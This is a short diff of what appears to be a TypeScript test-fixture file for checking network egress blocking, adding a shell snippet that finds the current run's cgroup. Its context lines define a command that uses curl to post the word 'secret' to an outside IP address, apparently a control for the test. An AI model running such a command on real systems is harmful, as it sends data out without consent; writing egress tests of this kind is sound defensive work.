@@ -60,3 +60,10 @@ export const SEND = "curl -sS -m 3 -d secret http://203.0.113.66/; " +
 
 /** {@link SEND} as a control. */
 export const SENDING = ["bash", "-c", SEND];
+
+/** Shell: `run` is the id of the run that it is in, `cg` the folder of its cgroup. */
+export const OWN_RUN = `
+run=$(sed -n 's|^0::.*/egress-\\([0-9a-f]*\\)/scope$|\\1|p' /proc/self/cgroup)
+cg=$(find /sys/fs/cgroup -type d -name "egress-$run" | head -n 1)
+[ -n "$cg" ] || { echo "no cgroup of this run"; exit 1; }
+`;
